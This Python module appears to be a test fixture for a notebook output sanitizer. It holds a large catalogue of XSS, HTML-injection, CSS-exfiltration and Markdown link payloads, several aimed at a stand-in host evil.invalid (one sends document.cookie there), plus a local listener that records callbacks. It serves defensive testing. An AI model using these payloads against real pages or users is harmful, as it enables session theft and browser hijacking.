"""What an output of a notebook may try in the browser of whoever looks at it, and a server that hears when one succeeds.

`EVIL` stands for the address of that server. Each sample is HTML as an output or a report may hold it; SAMPLES names them.
"""

from __future__ import annotations

import base64
import contextlib
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

EVIL = "http://evil.invalid"
"""What `aimed` replaces."""

_SVG = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
    b'<image href="http://evil.invalid/svg-data"/></svg>'
).decode()

SAMPLES: dict[str, str] = {
    # Scripts, in every way that one is started without a hand
    "script": "<script>alert(1);fetch('http://evil.invalid/script')</script>",
    "script-src": "<script src='http://evil.invalid/src.js'></script>",
    "module": "<script type=module>import('http://evil.invalid/module.js')</script>",
    "parent": "<script>parent.document.title='owned';top.document.title='owned'</script>",
    "top": "<script>top.location='http://evil.invalid/top'</script>",
    "storage": "<script>new Image().src='http://evil.invalid/?'+document.cookie+localStorage.length</script>",
    "img-onerror": "<img src=x onerror=\"alert(1);new Image().src='http://evil.invalid/onerror'\">",
    "svg-onload": "<svg onload=\"alert(1);fetch('http://evil.invalid/svg')\"></svg>",
    "svg-script": "<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
    "autofocus": "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(2)></select>",
    "body-onload": "<body onload=alert(1) onpageshow=alert(2)>",
    "video-onerror": "<video><source onerror=alert(1) src=x></video><audio src=x onerror=alert(2)></audio>",
    "marquee": "<marquee onstart=alert(1)>m</marquee>",
    "css-animation": "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(1)>b</b>",
    # Frames and plug-ins
    "iframe": "<iframe src='http://evil.invalid/frame'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>alert(1);parent.parent.document.title='owned'</script>\"></iframe>",
    "iframe-javascript": "<iframe src='javascript:alert(1)'></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<script>fetch('http://evil.invalid/data')</script>\"></iframe>",
    "object": "<object data='http://evil.invalid/object'></object><embed src='http://evil.invalid/embed'>",
    "object-data": "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "frameset": "<frameset><frame src='http://evil.invalid/frameset'></frameset>",
    # Loading something is enough to say that one was here
    "img": "<img src='http://evil.invalid/img'><img srcset='http://evil.invalid/srcset 1x'>",
    "picture": "<picture><source srcset='http://evil.invalid/picture'><img></picture>",
    "media": "<video src='http://evil.invalid/video' poster='http://evil.invalid/poster' autoplay></video>",
    "track": "<video><track default src='http://evil.invalid/track'></video>",
    "input-image": "<input type=image src='http://evil.invalid/input'>",
    "background": "<table background='http://evil.invalid/background'><tr><td>t</table>",
    "svg-image": "<svg><image href='http://evil.invalid/image'/><use href='http://evil.invalid/use#x'/></svg>",
    "svg-data": f"<img src='data:image/svg+xml;base64,{_SVG}'>",
    "svg-filter": "<svg><filter id=f><feImage href='http://evil.invalid/fe'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    # Styles that tell what is on the page, letter by letter
    "css-url": "<style>body{background:url(http://evil.invalid/css)}</style><p style='background:url(http://evil.invalid/inline)'>p</p>",
    "css-import": "<style>@import 'http://evil.invalid/import.css';</style>",
    "css-exfiltration": "<style>input[value^=s]{background:url(http://evil.invalid/s)}</style><input value=secret>",
    "css-font": "<style>@font-face{font-family:f;src:url(http://evil.invalid/font);unicode-range:U+41}p{font-family:f}</style><p>A</p>",
    "css-list": "<ul style='list-style-image:url(http://evil.invalid/list)'><li>l</ul>",
    "css-cursor": "<style>*{cursor:url(http://evil.invalid/cursor),auto;border-image:url(http://evil.invalid/border) 1}</style>",
    "stylesheet": "<link rel=stylesheet href='http://evil.invalid/sheet.css'>",
    # Where no policy of contents is asked
    "preconnect": "<link rel=preconnect href='http://evil.invalid'><link rel=dns-prefetch href='http://evil.invalid'>",
    "prefetch": "<link rel=prefetch href='http://evil.invalid/prefetch'><link rel=preload as=image href='http://evil.invalid/preload'>",
    "modulepreload": "<link rel=modulepreload href='http://evil.invalid/m.js'><link rel=manifest href='http://evil.invalid/manifest'>",
    "icon": "<link rel=icon href='http://evil.invalid/icon'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=http://evil.invalid/refresh'>",
    "meta-split": "<me<meta>ta http-equiv=refresh content='0;url=http://evil.invalid/split'><li<link>nk rel=preconnect href='http://evil.invalid'>",
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='http://evil.invalid/policy'>",
    "base": "<base href='http://evil.invalid/'><img src='based'><a href='there'>away</a>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://evil.invalid/rules"]}]}</script>',
    # What acts when somebody clicks
    "link": "<a href='http://evil.invalid/link'>away</a>",
    "link-top": "<a href='http://evil.invalid/top' target=_top>away</a>",
    "link-blank": "<a href='http://evil.invalid/blank' target=_blank>away</a>",
    "link-ping": "<a href='#here' ping='http://evil.invalid/ping'>away</a>",
    "link-download": "<a href='http://evil.invalid/file' download>away</a>",
    "link-javascript": "<a href='javascript:alert(1)'>away</a>",
    "link-javascript-hidden": "<a href='jav&#x09;ascript:alert(1)'>away</a><a href=' JaVaScRiPt:alert(1)'>away</a>",
    "link-svg": "<svg width=90 height=20><a xlink:href='javascript:alert(1)' href='javascript:alert(1)'><text y=15>away</text></a></svg>",
    "link-data": "<a href='data:text/html,<script>alert(1)</script>'>away</a>",
    "area": "<img usemap='#m' src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' width=90 height=20><map name=m><area shape=default href='http://evil.invalid/area' alt=away></map>",
    "form": "<form action='http://evil.invalid/form' target=_top><input name=password><button>away</button></form>",
    "form-action": "<form id=f></form><button form=f formaction='javascript:alert(1)'>away</button>",
    # Ways out of what is around it, and into it
    "breaking-out": "</iframe></body></html>\"'><script>alert(1)</script><img src=x onerror=alert(1)>",
    "breaking-out-textarea": "</textarea></title></style></script><script>alert(1)</script>",
    "comment": "<!--><script>alert(1)</script>--><!--><img src=x onerror=alert(1)>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "template": "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "clobbering": "<form id=document name=location><input name=cookie></form><img name=getElementById>",
    # MathJax and Mermaid would have drawn these
    "mathjax": "$$\\href{javascript:alert(1)}{away}\\unicode{<img src=x onerror=alert(1)>}$$",
    "mermaid": "<pre class=mermaid>graph TD; A[<img src=x onerror=alert(1)>]; click A href \"javascript:alert(1)\"</pre>",
    "widget": "<script type='application/vnd.jupyter.widget-view+json'>{\"model_id\":\"x\"}</script><script src='http://evil.invalid/require.js'></script>",
}  # fmt: skip

MARKDOWN: dict[str, str] = {
    "raw": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "link": "[away](javascript:alert(1)) [away](http://evil.invalid/md)",
    "image": "![i](http://evil.invalid/md.png) ![i](javascript:alert(1))",
    "autolink": "<javascript:alert(1)> <http://evil.invalid/auto>",
    "reference": '[away][x]\n\n[x]: javascript:alert(1) "t\\" onmouseover=alert(1)"',
    "attachment": "![i](attachment:x.svg)",
}


def aimed(text: str, evil: str) -> str:
    """A sample that tells the server at `evil`."""
    return text.replace(EVIL, evil)


@dataclass
class Ear:
    """Hears whoever connects, which is more than who sends a request."""

    url: str
    heard: list[str] = field(default_factory=list)


@contextlib.contextmanager
def listening() -> Iterator[Ear]:
    """A server that takes connections, and answers none."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        ear = Ear(f"http://127.0.0.1:{server.getsockname()[1]}")

        def hear() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:  # it is closed: the end
                    return
                with connection:
                    connection.settimeout(0.5)
                    try:
                        said = connection.recv(200).decode(errors="replace").partition("\r\n")[0]
                    except OSError:
                        said = ""
                ear.heard.append(said or "a connection")

        thread = threading.Thread(target=hear)
        thread.start()
        try:
            yield ear
        finally:
            server.shutdown(socket.SHUT_RDWR)
            server.close()
            thread.join()
